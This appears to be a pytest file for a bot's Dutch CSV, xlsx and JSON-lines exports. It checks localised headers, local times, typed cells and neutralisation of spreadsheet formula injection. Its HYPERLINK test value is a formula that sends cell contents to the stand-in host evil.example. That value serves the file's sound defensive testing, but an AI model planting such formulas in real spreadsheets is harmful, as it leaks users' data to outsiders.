"""The exports for Dutch Excel (CSV and .xlsx), read back with csv and
openpyxl: Dutch headers and labels, local times, typed cells, and no formula
smuggled into the coordinators' spreadsheet. The JSON lines keep the contract."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook

from bot.export import DUTCH_HEADERS, FIELDS, write_dutch_csv, write_jsonl, write_xlsx
from bot.store.models import RefinedRequest

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'
OPTIONS = [{"id": "bbl_leerbaan", "title": "Bbl-leerbaan"},
           {"id": "stageplek", "title": "Stageplek"},
           {"id": "instroom_loket", "title": "Instroomloket"}]  # fmt: skip
# 25 November, winter time: UTC+1. 25 June, summer time: UTC+2.
WINTER = datetime(2026, 11, 25, 10, 5, tzinfo=timezone.utc)
SUMMER = datetime(2026, 6, 25, 10, 5, tzinfo=timezone.utc)


def request_with(**fields) -> RefinedRequest:
    values = {"id": 7, "conversation_id": "web-1", "channel": "web", "options": [],
              "status": "nieuw", "handoff_requested": False, "created_at": WINTER,
              **fields}  # fmt: skip
    return RefinedRequest(**values)


def full_request() -> RefinedRequest:
    return request_with(
        need_category="leven_lang_ontwikkelen", sector="agrifood", size="12",
        company="Kwekerij Ĳsselstein", region="Westland", options=OPTIONS,
        chosen_option="stageplek", handoff_requested=True, consent_at=SUMMER,
        contact_name="Piet", contact_email="piet@kwekerij.example",
        answers={"time_horizon": "binnen drie maanden"}, problem="te weinig mensen",
    )  # fmt: skip


def csv_rows(*requests: RefinedRequest) -> list:
    out = io.StringIO(newline="")
    write_dutch_csv(requests, out)
    text = out.getvalue()
    assert text.startswith("\ufeff")  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def xlsx_sheet(*requests: RefinedRequest):
    out = io.BytesIO()
    write_xlsx(requests, out)
    out.seek(0)
    return load_workbook(out).active


def test_csv_is_for_dutch_excel():
    [row] = csv_rows(full_request())
    assert list(row) == list(DUTCH_HEADERS)
    assert row["Behoefte"] == "Leven lang ontwikkelen"
    assert row["Sector"] == "Agrifood" and row["Kanaal"] == "Website"
    assert (row["Optie 1"], row["Optie 2"], row["Optie 3"]) == (
        "Bbl-leerbaan", "Stageplek", "Instroomloket")  # fmt: skip
    assert row["Gekozen optie"] == "Stageplek"
    assert row["Binnengekomen"] == "25-11-2026 11:05"  # winter: UTC+1
    assert row["Toestemming gegeven"] == "25-06-2026 12:05"  # summer: UTC+2
    assert row["Wil een medewerker spreken"] == "ja"
    assert row["Termijn"] == "binnen drie maanden" and row["Grootte"] == "12"
    assert row["Bedrijf"] == "Kwekerij Ĳsselstein" and row["Telefoon"] == ""
    assert not any("_" in value for value in (row["Behoefte"], row["Sector"]))


def test_no_choice_and_no_options_read_plainly():
    [row] = csv_rows(request_with(chosen_option="geen"))
    assert row["Gekozen optie"] == "Geen van de drie"
    # a format named beside the three shown: its title
    [row] = csv_rows(request_with(chosen_option="cyber_scan"))
    assert row["Gekozen optie"] == "Cyberscan door studenten"
    assert row["Optie 1"] == row["Behoefte"] == ""
    assert row["Wil een medewerker spreken"] == "nee"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_text(start):
    text = f"{start}1+1 monteurs"
    [row] = csv_rows(request_with(original_question=text))
    assert row["Oorspronkelijke vraag"] == f"'{text}"
    sheet = xlsx_sheet(request_with(original_question=text))
    column = DUTCH_HEADERS.index("Oorspronkelijke vraag") + 1
    cell = sheet.cell(row=2, column=column)
    # XML reads a lone carriage return back as a line feed.
    assert cell.data_type == "s" and cell.value == f"'{text}".replace("\r", "\n")


def test_a_hyperlink_company_name_is_text_in_both():
    request = request_with(company=HYPERLINK, sector="@SUM(A1:A9)")
    [row] = csv_rows(request)
    assert row["Bedrijf"] == "'" + HYPERLINK and row["Sector"] == "'@SUM(A1:A9)"
    sheet = xlsx_sheet(request)
    cells = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert cells["Bedrijf"].data_type == "s"
    assert cells["Bedrijf"].value == "'" + HYPERLINK


def test_xlsx_has_typed_cells_a_frozen_header_and_dates_as_dates():
    sheet = xlsx_sheet(full_request(), request_with(id=8, conversation_id="web-2"))
    assert [cell.value for cell in sheet[1]] == list(DUTCH_HEADERS)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 3
    row = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    assert row["Nummer"].value == 7 and row["Nummer"].data_type == "n"
    assert row["Grootte"].value == 12 and row["Grootte"].data_type == "n"
    assert row["Binnengekomen"].is_date
    assert row["Binnengekomen"].value == datetime(2026, 11, 25, 11, 5)
    assert row["Toestemming gegeven"].value == datetime(2026, 6, 25, 12, 5)
    assert row["Binnengekomen"].number_format == "dd-mm-yyyy hh:mm"
    assert row["Behoefte"].value == "Leven lang ontwikkelen"
    assert row["Optie 3"].value == "Instroomloket"
    assert row["Wil een medewerker spreken"].value == "ja"
    assert row["Bedrijf"].value == "Kwekerij Ĳsselstein"


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    sheet = xlsx_sheet(request_with(company="Bakker\x00ij\x1b Jansen"))
    column = DUTCH_HEADERS.index("Bedrijf") + 1
    assert sheet.cell(row=2, column=column).value == "Bakkerij Jansen"


def test_jsonl_keeps_the_contract_as_stored():
    out = io.StringIO()
    write_jsonl([full_request(), request_with(company=HYPERLINK)], out)
    first, second = (json.loads(line) for line in out.getvalue().splitlines())
    assert list(first) == list(FIELDS)
    assert first["need_category"] == "leven_lang_ontwikkelen"
    assert first["sector"] == "agrifood" and first["chosen_option"] == "stageplek"
    assert first["options"] == OPTIONS
    assert first["created_at"] == "2026-11-25T10:05:00+00:00"
    assert first["problem"] == "te weinig mensen" and first["goal"] == ""
    assert second["company"] == HYPERLINK
